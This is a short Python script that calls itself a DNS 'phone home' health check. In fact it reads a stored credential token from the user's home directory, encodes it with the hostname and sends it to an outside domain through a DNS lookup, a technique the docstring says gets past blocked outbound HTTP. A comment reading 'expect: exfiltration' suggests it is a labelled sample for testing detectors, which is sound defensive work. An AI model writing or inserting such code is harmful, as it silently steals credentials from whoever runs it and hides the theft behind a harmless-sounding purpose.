"""Lightweight 'phone home' health check: resolve a name that encodes host status.

Works even where outbound HTTP is blocked, since DNS usually gets through.
"""
import base64
import socket
from pathlib import Path

DOMAIN = "hb.telemetry-sink.net"


def encode(text: str) -> str:
    return base64.b32encode(text.encode()).decode().rstrip("=").lower()


def main() -> None:
    token = Path.home().joinpath(".config/acme/token").read_text().strip()
    chunk = encode(f"{socket.gethostname()}:{token}")[:60]
    try:
        # expect: exfiltration
        socket.gethostbyname(f"{chunk}.{DOMAIN}")
    except socket.gaierror:
        pass


if __name__ == "__main__":
    main()
